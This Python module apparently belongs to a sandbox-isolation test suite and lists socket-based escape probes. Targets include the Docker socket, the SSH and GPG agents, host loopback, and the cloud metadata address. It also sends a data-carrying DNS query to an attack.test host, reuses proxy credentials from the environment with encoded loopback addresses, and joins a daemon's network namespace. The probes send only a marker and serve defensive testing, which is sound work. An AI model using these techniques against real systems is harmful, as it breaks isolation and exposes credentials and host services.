# SPDX-License-Identifier: Apache-2.0 OR MIT
"""Attacks over sockets: Unix sockets of services outside, and the network."""

from __future__ import annotations

import base64
import os
import socket
import struct
from urllib.parse import urlsplit

from registry import MARK, add, attack, received, reported

# Unix sockets of services that start programs or give away secrets. The stage binds them; see `stage.py`.
SERVICES = {
    "docker": "the Docker socket", "podman": "the user's Podman socket", "containerd": "the containerd socket",
    "session-bus": "the session D-Bus", "system-bus": "the system D-Bus", "systemd-user": "the user's systemd",
    "tmux": "a tmux server", "screen": "a screen session", "ssh-agent": "the SSH agent", "ssh-control": "an SSH ControlMaster",
    "gpg-agent-home": "the GPG agent in the home", "gpg-agent-run": "the GPG agent in the runtime directory",
    "keyring": "the desktop keyring", "x11": "the X server", "wayland": "the Wayland compositor",
    "pipewire": "PipeWire", "editor-run": "an editor's socket in the runtime directory",
    "editor-tmp": "an editor's socket in `/tmp`", "emacs": "an Emacs server", "project-outside": "a socket in another project",
    "journal": "the journal (datagrams)",
}


def send_unix(path: str | bytes, kind: int = socket.SOCK_STREAM) -> None:
    client = socket.socket(socket.AF_UNIX, kind)
    client.connect(path)
    client.send(MARK)


for _service, _title in SERVICES.items():
    add(f"unix-{_service}", "Unix sockets", f"connect to {_title}",
        lambda t, s=_service: send_unix(t.sockets[s], socket.SOCK_DGRAM if s == "journal" else socket.SOCK_STREAM),
        received(_service))


@attack("Unix sockets", "connect to an abstract socket", received("abstract"))
def unix_abstract(t):
    send_unix(b"\0" + t.outside["abstract"].encode())


@attack("Unix sockets", "connect to an abstract datagram socket", received("abstract-datagram"))
def unix_abstract_datagram(t):
    send_unix(b"\0" + t.outside["abstract"].encode() + b"-datagram", socket.SOCK_DGRAM)


@attack("Unix sockets", "connect through a symbolic link in the project", received("ssh-control"))
def unix_symlink(t):
    (t.project / "s").symlink_to(t.sockets["ssh-control"])
    send_unix(str(t.project / "s"))


@attack("Unix sockets", "connect through a hard link in the project", received("gpg-agent-home"))
def unix_hard_link(t):
    os.link(t.sockets["gpg-agent-home"], t.project / "s")
    send_unix(str(t.project / "s"))


@attack("Unix sockets", "connect through `/proc/PID/root` of the daemon", received("docker"))
def unix_proc_root(t):
    t.each_daemon(lambda pid: send_unix(f"/proc/{pid}/root{t.sockets['docker']}"))


@attack("Unix sockets", "send with a socket made by socketpair, to the journal", received("journal"))
def unix_socketpair(t):
    first, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    first.sendto(MARK, t.sockets["journal"])


for _entry in ("uring", "i386", "x32"):
    add(f"{_entry}-unix", "other entry points", f"connect to the Docker socket with {_entry} system calls",
        lambda t, e=_entry: t.helper(e, "unix", t.sockets["docker"]), received("docker"))
    add(f"{_entry}-tcp", "other entry points", f"connect to host loopback with {_entry} system calls",
        lambda t, e=_entry: t.helper(e, "tcp", "127.0.0.1", t.ports["tcp"]), received("tcp"))


# ---- TCP and UDP ----

def send_tcp(address: str, port: int, protocol: int = 0) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    client = socket.socket(family, socket.SOCK_STREAM, protocol)
    client.settimeout(4)
    client.connect((address, port))
    client.sendall(MARK)


def send_udp(address: str, port: int) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    socket.socket(family, socket.SOCK_DGRAM).sendto(MARK, (address, port))


for _name, _address, _title in (
    ("loopback", "127.0.0.1", "host loopback"), ("any-address", "0.0.0.0", "host loopback as 0.0.0.0"),
    ("loopback-other", "127.8.7.6", "another address of host loopback"), ("loopback-ipv6", "::1", "host loopback over IPv6"),
    ("mapped-ipv6", "::ffff:127.0.0.1", "host loopback as an IPv4-mapped address"),
):
    add(f"tcp-{_name}", "network", f"TCP to {_title}", lambda t, a=_address: send_tcp(a, t.ports["tcp"]), received("tcp"))
    add(f"udp-{_name}", "network", f"UDP to {_title}", lambda t, a=_address: send_udp(a, t.ports["udp"]), received("udp"))


@attack("network", "TCP to another address of the host", received("tcp"))
def tcp_outside(t):
    t.require_isolation()
    send_tcp(t.outside["address"], t.ports["tcp"])


@attack("network", "UDP to another address of the host", received("udp"))
def udp_outside(t):
    t.require_isolation()
    send_udp(t.outside["address"], t.ports["udp"])


@attack("network", "HTTP to the cloud metadata address 169.254.169.254", received("metadata"))
def metadata(t):
    t.require_isolation()
    send_tcp("169.254.169.254", 80)


@attack("network", "multipath TCP to host loopback", received("mptcp"))
def mptcp_loopback(t):
    send_tcp("127.0.0.1", t.ports["mptcp"], 262)


@attack("network", "TCP Fast Open: connect in sendto, without connect", received("tcp"))
def tcp_fast_open(t):
    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    client.sendto(MARK, 0x20000000, ("127.0.0.1", t.ports["tcp"]))


@attack("network", "UDP-Lite to host loopback", received("udplite"))
def udplite_loopback(t):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(MARK, ("127.0.0.1", t.ports["udplite"]))


@attack("network", "resolve a name: the query has the data", received("dns"))
def dns_resolver(t):
    t.require_isolation()
    socket.getaddrinfo(f"pwned-{t.run_id}.attack.test", 80)


@attack("network", "send a DNS query to the resolver directly", received("dns"))
def dns_direct(t):
    t.require_isolation()
    query = struct.pack(">HHHHHH", 1, 256, 1, 0, 0, 0) + b"\x05pwned\x06attack\x04test\0\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (t.outside["resolver"], 53))


@attack("network", "send an ICMP echo request with data through a raw socket", received("icmp"))
def raw_icmp(t):
    packet = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + MARK
    total = sum(struct.unpack(f">{(len(packet) + 1) // 2}H", packet + b"\0" * (len(packet) % 2)))
    total = (total & 0xffff) + (total >> 16)
    packet = packet[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + packet[4:]
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(packet, ("127.0.0.1", 0))


@attack("network", "send a frame through a packet socket", received("packet"))
def packet_socket(t):
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind(("lo", 0x88b5))
    sender.send(bytes(12) + b"\x88\xb5" + MARK + bytes(60))


@attack("network", "add an address to the host's loopback over netlink", lambda s: s.added_address())
def netlink_address(t):
    body = struct.pack("BBBBI", 2, 32, 0, 0, 1)
    for kind in (1, 2):
        body += struct.pack("HH4s", 8, kind, socket.inet_aton("198.51.100.77"))
    message = struct.pack("IHHII", 16 + len(body), 20, 0x405, 1, 0) + body
    client = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    client.send(message)
    client.recv(4096)


@attack("network", "change a network setting in `/proc/sys`", lambda s: s.changed_setting())
def proc_sys_write(t):
    with open("/proc/sys/net/ipv4/ip_default_ttl", "w") as setting:
        setting.write("77")


@attack("network", "join the daemon's network namespace, then TCP to host loopback", received("tcp"))
def join_network_namespace(t):
    def join(pid: int) -> None:
        t.libc("setns", os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0)
        send_tcp("127.0.0.1", t.ports["tcp"])
    t.each_daemon(join)


# ---- through the proxy that the sandbox offers ----

def proxy_address() -> tuple[str, int, str] | None:
    """Host, port and the header with credentials of the proxy that the environment names."""
    for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
        url = urlsplit(os.environ.get(name, ""))
        if url.hostname and url.scheme in ("http", "https"):
            login = base64.b64encode(f"{url.username}:{url.password}".encode()).decode()
            header = f"Proxy-Authorization: Basic {login}\r\n" if url.username else ""
            return url.hostname, url.port or 80, header
    return None


def send_by_proxy(host: str, port: int, direct: str) -> None:
    """Send through the proxy of the environment; without a proxy, connect directly."""
    proxy = proxy_address()
    if proxy is None:
        return send_tcp(direct, port)
    client = socket.create_connection(proxy[:2], 4)
    client.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n{proxy[2]}\r\n".encode())
    answer = client.recv(200)
    if b" 200" in answer:
        client.sendall(MARK)
        client.settimeout(0.3)
        try:
            client.recv(10)
        except OSError:
            pass
    else:
        raise OSError(answer[:60].decode("latin-1"))
    return None


for _name, _host in (("loopback", "127.0.0.1"), ("localhost", "localhost"), ("ipv6", "[::1]"), ("decimal", "2130706433"),
                     ("short", "127.1"), ("mapped", "[::ffff:127.0.0.1]"), ("hexadecimal", "0x7f000001")):
    add(f"proxy-{_name}", "proxy", f"ask the sandbox's proxy for {_host}",
        lambda t, h=_host: send_by_proxy(h, t.ports["tcp"], "127.0.0.1"), received("tcp"))


@attack("proxy", "ask the sandbox's proxy for the metadata address", received("metadata"))
def proxy_metadata(t):
    t.require_isolation()
    send_by_proxy("169.254.169.254", 80, "169.254.169.254")


@attack("proxy", "ask the sandbox's proxy with a plain HTTP request for host loopback", received("tcp"))
def proxy_plain_request(t):
    host, port, header = proxy_address() or ("127.0.0.1", t.ports["tcp"], "")
    client = socket.create_connection((host, port), 4)
    target = f"127.0.0.1:{t.ports['tcp']}"
    client.sendall(f"POST http://{target}/PWNED HTTP/1.1\r\nHost: {target}\r\n{header}Content-Length: 5\r\n\r\nPWNED".encode())
    client.settimeout(1)
    client.recv(10)


# ---- address families ----

for _name, _family, _kind in (("packet", 17, socket.SOCK_DGRAM), ("raw", socket.AF_INET, socket.SOCK_RAW), ("vsock", 40, socket.SOCK_STREAM),
                              ("algorithm", 38, socket.SOCK_SEQPACKET), ("netlink", 16, socket.SOCK_RAW), ("bluetooth", 31, socket.SOCK_RAW),
                              ("unix", socket.AF_UNIX, socket.SOCK_STREAM), ("xdp", 44, socket.SOCK_RAW), ("tipc", 30, socket.SOCK_STREAM)):
    def _make(t, family=_family, kind=_kind) -> None:
        socket.socket(family, kind, 1 if family == socket.AF_INET else 0)
        t.report(b"OK")
    add(f"socket-{_name}", "kernel surface", f"make a socket of family `{_name}`", _make, reported(), kind="surface")
